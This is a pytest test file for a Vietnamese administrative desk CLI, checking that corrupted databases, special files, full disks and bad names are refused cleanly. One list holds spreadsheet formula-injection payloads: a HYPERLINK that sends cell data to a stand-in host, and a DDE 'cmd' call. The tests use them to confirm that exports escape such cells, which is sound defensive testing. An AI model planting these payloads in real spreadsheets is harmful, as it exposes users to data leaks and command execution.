"""Hostile or broken input through the real command line (issue 11): a file that is no file
(a device, a FIFO, a folder), a database with damaged pages, a catalog nested without end, a
file name that is not UTF-8, a full disk, invisible characters in names, formulas in a
spreadsheet's cells, an empty date. Each is refused with one Vietnamese line (exit 2) and
changes nothing; none is "lỗi không mong đợi"."""

from __future__ import annotations

import os
import resource
import subprocess
import sys
from pathlib import Path

import pytest

from tests.accounts import init_unit_cli
from tests.cli.test_cli import cli

UNIT = "000.17.22.H56"
# The address space a child gets: the program needs ~1 GiB mapped to start (Qt-free), so
# reading a whole device into memory fails at once instead of taking the PC's memory.
CHILD_MEMORY = 1536 * 2**20


@pytest.fixture
def desk_db(tmp_path: Path, capsys, monkeypatch) -> Path:
    path = tmp_path / "desk.sqlite3"
    init_unit_cli(monkeypatch, capsys, path, "--unit-code", UNIT, "--unit-name", "UBND xã Bình An")
    return path


def bounded_run(*args: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    """The real program in a child with a memory ceiling and a time limit."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (CHILD_MEMORY, CHILD_MEMORY))

    return subprocess.run(
        [sys.executable, "-m", "mohao_desk", *args],
        capture_output=True,
        text=True,
        encoding="utf-8",
        env={**os.environ, "PYTHONIOENCODING": "utf-8"},
        timeout=timeout,
        preexec_fn=limit,
    )


# ------------------------------------------------------------ 1. bounded reads


def test_a_link_to_dev_zero_is_refused_without_reading_it(desk_db: Path, tmp_path: Path) -> None:
    link = tmp_path / "danh-muc.json"
    link.symlink_to("/dev/zero")
    result = bounded_run("catalog", "import", str(link), "--db", str(desk_db), "--dry-run")
    assert result.returncode == 2, result.stderr
    assert "không mong đợi" not in result.stderr
    assert "không phải tệp thông thường" in result.stderr
    assert "danh-muc.json" in result.stderr


def test_a_fifo_is_refused_without_waiting_for_a_writer(desk_db: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "khoa.key.json"
    os.mkfifo(fifo)
    result = bounded_run("trust", str(fifo), "--db", str(desk_db), "--by", "quantri", timeout=30)
    assert result.returncode == 2, result.stderr
    assert "không phải tệp thông thường" in result.stderr


def test_trust_of_a_link_to_dev_zero_is_refused(desk_db: Path, tmp_path: Path) -> None:
    link = tmp_path / "tinh.key.json"
    link.symlink_to("/dev/zero")
    result = bounded_run("trust", str(link), "--db", str(desk_db), "--by", "quantri")
    assert result.returncode == 2, result.stderr
    assert "không phải tệp thông thường" in result.stderr


def test_catalog_import_of_a_folder_says_it_is_a_folder(
    desk_db: Path, tmp_path: Path, capsys
) -> None:
    folder = tmp_path / "danh-muc"
    folder.mkdir()
    code, _, err = cli(
        capsys, "catalog", "import", str(folder), "--db", str(desk_db), "--by", "quantri", "--yes"
    )
    assert code == 2
    assert err.strip() == f"mohao-desk: '{folder}' là một thư mục, không phải một tệp."


# ------------------------------------------------- 2. crashes become messages


def _corrupt_a_table_name(path: Path) -> None:
    """Damage the database's own page: a byte of a table's name in sqlite_master made invalid
    UTF-8 (what a disk's bad sector or a half-copied file leaves)."""
    import sqlite3

    conn = sqlite3.connect(path)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    data = bytearray(path.read_bytes())
    at = data.find(b"tableunitunit")
    assert at > 0
    data[at + 5] = 0xFF
    path.write_bytes(bytes(data))


def test_a_database_with_damaged_pages_is_refused_with_a_message(desk_db: Path, capsys) -> None:
    _corrupt_a_table_name(desk_db)
    for args in (("list",), ("show", "--dossier", f"{UNIT}-240426-0001")):
        code, _, err = cli(capsys, *args, "--db", str(desk_db))
        assert code == 2, err
        assert err.strip() == (
            f"mohao-desk: Cơ sở dữ liệu '{desk_db}' bị hỏng (không đọc được nội dung): hãy "
            "khôi phục từ bản sao lưu."
        )


def test_a_damaged_data_page_is_a_message_not_a_crash(
    desk_db: Path, tmp_path: Path, capsys
) -> None:
    import sqlite3

    for n in range(40):  # enough rows that the dossier table has pages of its own
        code, _, err = cli(capsys, "register", "--db", str(desk_db), "--procedure",
                           "2.000815", "--name", f"Nguyễn Văn {n:03}", "--received",
                           "2024-04-26T09:00")  # fmt: skip
        assert code == 0, err
    conn = sqlite3.connect(desk_db)
    root = conn.execute("SELECT rootpage FROM sqlite_master WHERE name='dossier'").fetchone()[0]
    page = conn.execute("PRAGMA page_size").fetchone()[0]
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    data = bytearray(desk_db.read_bytes())
    start = (root - 1) * page
    data[start : start + page] = b"\x0d" + b"\xa5" * (page - 1)  # a leaf page of garbage
    desk_db.write_bytes(bytes(data))
    code, _, err = cli(capsys, "list", "--all", "--db", str(desk_db))
    assert code == 2, err
    assert "bị hỏng" in err and "không mong đợi" not in err


def test_a_catalog_nested_100000_levels_is_refused(desk_db: Path, tmp_path: Path, capsys) -> None:
    deep = tmp_path / "danh-muc.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    code, _, err = cli(
        capsys, "catalog", "import", str(deep), "--db", str(desk_db), "--by", "quantri", "--yes"
    )
    assert code == 2, err
    assert err.strip() == (
        f"mohao-desk: Tệp danh mục '{deep}' lồng nhau quá sâu (hơn 1.000 cấp): không phải một "
        "danh mục."
    )


def test_a_key_file_nested_too_deep_is_refused(desk_db: Path, tmp_path: Path, capsys) -> None:
    deep = tmp_path / "tinh.key.json"
    deep.write_text('{"a":' * 10_000 + "1" + "}" * 10_000)  # 60 KB, under the key file limit
    code, _, err = cli(capsys, "trust", str(deep), "--db", str(desk_db), "--by", "quantri")
    assert code == 2, err
    assert "lồng nhau quá sâu" in err and "không mong đợi" not in err


def _registered(desk_db: Path, capsys) -> str:
    code, out, err = cli(capsys, "register", "--db", str(desk_db), "--procedure", "2.000815",
                         "--name", "Trần Thị Bình", "--received", "2024-04-26T09:00")  # fmt: skip
    assert code == 0, err
    return out.splitlines()[0]


def test_digitize_of_a_file_whose_name_is_not_utf8(desk_db: Path, tmp_path: Path, capsys) -> None:
    dossier = _registered(desk_db, capsys)
    raw_name = os.fsencode(tmp_path) + b"/gi\xe1y-t\xf5.pdf"  # Latin-1 bytes, not UTF-8
    with open(raw_name, "wb") as handle:
        handle.write(b"%PDF-1.4 scan")
    code, _, err = cli(capsys, "digitize", "--db", str(desk_db), "--dossier", dossier,
                       "--component", "1", "--file", os.fsdecode(raw_name))  # fmt: skip
    assert code == 2, err
    assert err.strip() == (
        "mohao-desk: Tên tệp 'gi\ufffdy-t\ufffd.pdf' không phải chữ Unicode (UTF-8): hãy đổi "
        "tên tệp rồi số hóa lại."
    )
    code, out, _ = cli(capsys, "show", "--dossier", dossier, "--db", str(desk_db))
    assert "chưa số hóa" in out


@pytest.fixture
def tiny_disk(tmp_path: Path):
    """A real 64 KiB file system (tmpfs), mounted for the test: needs root."""
    folder = tmp_path / "tiny"
    folder.mkdir()
    if os.geteuid() != 0:
        pytest.skip("mounting a tiny file system needs root")
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(folder)], capture_output=True
    )
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {mounted.stderr.decode(errors='replace')}")
    try:
        yield folder
    finally:
        subprocess.run(["umount", str(folder)], check=True)


def test_digitize_on_a_full_disk_says_so_and_leaves_nothing(
    desk_db: Path, tmp_path: Path, tiny_disk: Path, capsys
) -> None:
    dossier = _registered(desk_db, capsys)
    # The attachments folder beside the database lives on the tiny disk.
    (desk_db.parent / "attachments").symlink_to(tiny_disk, target_is_directory=True)
    scan = tmp_path / "giay-de-nghi.pdf"
    scan.write_bytes(b"%PDF-1.4 " + os.urandom(200_000))
    code, _, err = cli(capsys, "digitize", "--db", str(desk_db), "--dossier", dossier,
                       "--component", "1", "--file", str(scan))  # fmt: skip
    assert code == 2, err
    assert err.strip() == (
        "mohao-desk: Không lưu được bản sao tệp 'giay-de-nghi.pdf' vào thư mục dữ liệu: ổ đĩa "
        "đã đầy; hồ sơ chưa được ghi số hóa."
    )
    assert [p for p in tiny_disk.rglob("*") if p.is_file()] == []  # no 0-byte .part left
    code, out, _ = cli(capsys, "show", "--dossier", dossier, "--db", str(desk_db))
    assert "chưa số hóa" in out


def test_digitize_over_the_file_size_limit_says_so_and_leaves_nothing(
    desk_db: Path, tmp_path: Path, capsys
) -> None:
    """Without root: the operating system's own limit on the size of a file this process
    writes (RLIMIT_FSIZE) makes the copy fail half-way, a real write error."""
    dossier = _registered(desk_db, capsys)
    scan = tmp_path / "ban-quet.pdf"
    scan.write_bytes(b"%PDF-1.4 " + os.urandom(3 * 2**20))

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (2 * 2**20, 2 * 2**20))

    result = subprocess.run(
        [sys.executable, "-m", "mohao_desk", "digitize", "--db", str(desk_db), "--dossier",
         dossier, "--component", "1", "--file", str(scan)],
        capture_output=True, text=True, encoding="utf-8", timeout=60, preexec_fn=limit,
        env={**os.environ, "PYTHONIOENCODING": "utf-8"},
    )  # fmt: skip
    assert result.returncode == 2, result.stderr
    assert "Không lưu được bản sao tệp 'ban-quet.pdf'" in result.stderr
    assert [p for p in (desk_db.parent / "attachments").rglob("*") if p.is_file()] == []


# ------------------------------------------------------- 4. formula injection

HOSTILE_CELLS = ['=HYPERLINK("http://x.example/?d="&A1,"Bấm")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]


def test_list_csv_escapes_cells_that_a_spreadsheet_would_run(desk_db: Path, capsys) -> None:
    import csv
    import io

    name, address, _ = HOSTILE_CELLS
    code, _, err = cli(capsys, "register", "--db", str(desk_db), "--procedure", "2.000815",
                       "--name", name, "--address", address, "--phone", "-0912 345 678",
                       "--received", "2024-04-26T09:00")  # fmt: skip
    assert code != 0  # the phone is refused: nothing written
    code, _, err = cli(capsys, "register", "--db", str(desk_db), "--procedure", "2.000815",
                       "--name", name, "--address", address, "--received",
                       "2024-04-26T09:00")  # fmt: skip
    assert code == 0, err
    code, out, err = cli(capsys, "list", "--all", "--format", "csv", "--db", str(desk_db))
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == 1
    numbers = {k for k, v in rows[0].items() if v.lstrip("-").isdigit()}  # a number is a number
    cells = [v for k, v in rows[0].items() if v and k not in numbers]
    assert not [v for v in cells if v[0] in "=+-@\t\r"]
    assert rows[0]["applicant"] == "'" + name
    code, out, _ = cli(capsys, "list", "--all", "--format", "json", "--db", str(desk_db))
    import json

    assert json.loads(out)[0]["applicant"] == name  # the data is as typed: only the cell is escaped


def test_kstt_xlsx_has_no_formula_but_its_own_totals(desk_db: Path, tmp_path: Path, capsys) -> None:
    import openpyxl

    place, head, _ = HOSTILE_CELLS
    code, _, err = cli(capsys, "unit", "--db", str(desk_db), "--by", "quantri", "--place", place,
                       "--head-name", head)  # fmt: skip
    assert code == 0, err
    code, _, err = cli(capsys, "register", "--db", str(desk_db), "--procedure", "2.000815",
                       "--name", "Trần Văn Cường", "--received", "2024-04-26T09:00")  # fmt: skip
    assert code == 0, err
    out = tmp_path / "bieu06.xlsx"
    code, _, err = cli(capsys, "report", "kstt", "--from", "2024-04-01", "--to", "2024-04-30",
                       "--format", "xlsx", "--out", str(out), "--db", str(desk_db))  # fmt: skip
    assert code == 0, err
    sheet = openpyxl.load_workbook(out).active
    formulas = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas and all(str(f).startswith("=SUM(") for f in formulas)
    texts = [str(c.value) for row in sheet.iter_rows() for c in row if c.data_type == "s"]
    assert any(t.startswith("'" + place) for t in texts)
    assert "'" + head in texts


# ------------------------------------------------ 5. nothing half-made, nothing guessed


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("--unit-code", "ABC", "--unit-name", "UBND xã Bình An"), "Mã cơ quan 'ABC'"),
        (("--unit-code", UNIT, "--unit-name", "\u200b"), "Tên đơn vị không được để trống"),
        (("--unit-code", UNIT, "--unit-name", "UBND", "--office-hours", "25:00-26:00"), ""),
    ],
)
def test_a_refused_init_leaves_no_database(tmp_path: Path, capsys, args, message) -> None:
    path = tmp_path / "moi" / "desk.sqlite3"
    code, _, err = cli(capsys, "init", "--db", str(path), *args)
    assert code == 2, err
    assert message in err and "không mong đợi" not in err
    assert not path.exists()
    assert [p.name for p in tmp_path.rglob("*") if p.is_file()] == []


def test_a_refused_init_keeps_an_existing_database(desk_db: Path, capsys) -> None:
    before = desk_db.read_bytes()
    code, _, err = cli(capsys, "init", "--db", str(desk_db), "--unit-code", UNIT,
                       "--unit-name", "UBND khác")  # fmt: skip
    assert code == 2 and "đã được thiết lập" in err
    assert desk_db.exists() and len(desk_db.read_bytes()) >= len(before) // 2


@pytest.mark.parametrize("flag", ["--received", "--at"])
def test_an_empty_moment_is_refused_not_taken_as_now(desk_db: Path, capsys, flag: str) -> None:
    args = ["--procedure", "2.000815", "--name", "Đỗ Văn Em"]
    if flag == "--at":
        dossier = _registered(desk_db, capsys)
        args = ["handover", "--dossier", dossier, "--body", "Phòng Tư pháp"]
        code, _, err = cli(capsys, *args, "--at", "", "--db", str(desk_db))
    else:
        code, _, err = cli(capsys, "register", *args, "--received", "", "--db", str(desk_db))
    assert code == 2
    assert err.strip() == (
        "mohao-desk: Thời điểm '' không hợp lệ (dạng YYYY-MM-DDTHH:MM, ví dụ 2024-04-26T09:00)."
    )
    code, out, _ = cli(capsys, "list", "--all", "--count", "--db", str(desk_db))
    assert out.strip() == ("1" if flag == "--at" else "0")
